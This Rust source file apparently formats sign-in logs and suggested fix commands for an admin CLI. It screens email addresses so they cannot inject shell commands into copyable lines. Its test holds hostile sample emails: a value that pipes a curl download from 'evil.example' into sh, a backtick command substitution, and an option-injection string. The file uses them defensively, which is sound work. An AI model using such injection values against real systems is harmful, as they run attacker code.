//! `logins` and `explain`, as text.

use super::output::table;
use crate::administration::api::{ExplainView, LoginView};
use crate::directory::LoginCheck;

/// Sign-ins, newest first.
pub fn logins(found: &[LoginView]) -> String {
    if found.is_empty() {
        return "No sign-ins yet.".to_owned();
    }
    found.iter().map(login).collect::<Vec<_>>().join("\n\n")
}

fn login(login: &LoginView) -> String {
    let who = login.email.as_deref().unwrap_or("someone unknown");
    let reason = login.reason.as_ref().map_or(String::new(), |reason| format!(" ({reason})"));
    let mut lines = vec![format!("{}  {}{reason}  {who} → {}", login.at, login.outcome, login.slug)];
    lines.push(format!("  reference {}  from {}", login.reference, login.client));
    if let Some(idp) = &login.idp {
        lines.push(format!("  identity provider {idp}"));
    }
    lines.extend(checks(&login.checks).lines().map(|line| format!("  {line}")));
    if let Some(fix) = &login.fix {
        lines.push(format!("  fix: {fix}"));
    }
    let reason = login.reason.as_deref().unwrap_or_default();
    let command = command(reason, login.slug.as_str(), login.email.as_deref());
    lines.extend(command.map(|command| format!("  or: {command}")));
    lines.join("\n")
}

/// What a fix comes to on the command line: the fix itself is for those who have the console alone.
pub fn command(reason: &str, slug: &str, email: Option<&str>) -> Option<String> {
    // An address may hold what a shell would run: it is another's, and the line is there to be copied.
    let harmless = |email: &&str| {
        !email.starts_with('-') && email.bytes().all(|byte| byte.is_ascii_alphanumeric() || b"._+-@".contains(&byte))
    };
    let email = email.filter(harmless).unwrap_or("EMAIL");
    Some(match reason {
        "unsolicited" => format!("vestibule org set {slug} idp_initiated=true"),
        "connection_rests" => format!("vestibule link leave {slug}"),
        "not_a_member" | "removed_by_provisioning" => format!("vestibule user add {slug} {email}"),
        "account_deactivated" => format!("vestibule user activate {email}"),
        "wrong_credential" => format!("vestibule user add {slug} {email} --password-stdin"),
        "wrong_second_factor" => format!("vestibule user reset-second-factor {email}"),
        _ => return None,
    })
}

/// Checks, a line each; of one that failed, what was expected and what came.
pub fn checks(checks: &[LoginCheck]) -> String {
    let width = checks.iter().map(|check| check.name.chars().count()).max().unwrap_or(0);
    let line = |check: &LoginCheck| {
        let LoginCheck { name, passed, expected, received } = check;
        if *passed {
            format!("✓ {name:width$}  {received}").trim_end().to_owned()
        } else {
            format!("✗ {name:width$}  expected {expected}; received {received}")
        }
    };
    checks.iter().map(line).collect::<Vec<_>>().join("\n")
}

/// A decision, step by step.
pub fn explained(view: &ExplainView) -> String {
    let row = |step: &crate::administration::api::Step| {
        let mark = if step.passed { "✓" } else { "✗" };
        [format!("{mark} {}", step.what), step.found.clone()]
    };
    let rows: Vec<_> = view.steps.iter().map(row).collect();
    let steps = table(["", ""], &rows, "");
    let mark = if view.allowed { "→" } else { "→ no:" };
    format!("{}\n{mark} {}", steps.trim_start_matches('\n'), view.decision)
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::kernel::LoginId;

    #[test]
    fn the_operator_reads_the_command_beside_the_fix() {
        let check = |reason: Option<&str>, email: Option<&str>, expected: &str| {
            let told = login(&LoginView {
                id: LoginId::from_bytes([1; 16]),
                slug: "acme".parse().unwrap(),
                at: "2026-11-22T10:00:00Z".to_owned(),
                outcome: "refused".to_owned(),
                reason: reason.map(str::to_owned),
                fix: reason.map(|_| "Do this.".to_owned()),
                reference: "ABCD-EFGH".to_owned(),
                email: email.map(str::to_owned),
                idp: None,
                client: "192.0.2.7".to_owned(),
                checks: Vec::new(),
            });
            assert!(told.ends_with(expected), "{told}");
        };
        let ada = Some("ada@acme.example");
        check(Some("unsolicited"), None, "fix: Do this.\n  or: vestibule org set acme idp_initiated=true");
        check(Some("connection_rests"), ada, "or: vestibule link leave acme");
        check(Some("not_a_member"), ada, "or: vestibule user add acme ada@acme.example");
        for hostile in
            ["x|curl${IFS}evil.example|sh@acme.example", "`id`@acme.example", "--json@acme.example", "a'b@acme.example"]
        {
            check(Some("not_a_member"), Some(hostile), "or: vestibule user add acme EMAIL");
        }
        check(Some("account_deactivated"), None, "or: vestibule user activate EMAIL");
        check(Some("wrong_second_factor"), ada, "or: vestibule user reset-second-factor ada@acme.example");
        check(Some("audience_mismatch"), ada, "fix: Do this.");
        check(None, ada, "from 192.0.2.7");
    }
}
